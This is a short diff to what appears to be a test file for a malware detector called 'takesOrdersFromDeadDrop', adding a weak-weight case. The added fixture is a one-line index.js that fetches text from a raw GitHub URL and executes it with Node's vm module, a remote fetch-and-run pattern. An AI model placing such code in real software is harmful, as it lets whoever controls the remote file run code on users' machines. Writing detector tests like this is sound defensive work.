@@ -84,6 +84,13 @@ examine(takesOrdersFromDeadDrop, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a list on GitHub is made into code when somebody asks for it',
+      files: {
+        'index.js': `const vm = require('vm'); exports.update = async () => vm.runInNewContext(await (await fetch('https://raw.githubusercontent.com/specimen/lists/main/agents.txt')).text());`,
+      },
+      weight: 'weak',
+    },
   ],
   silent: [
     {
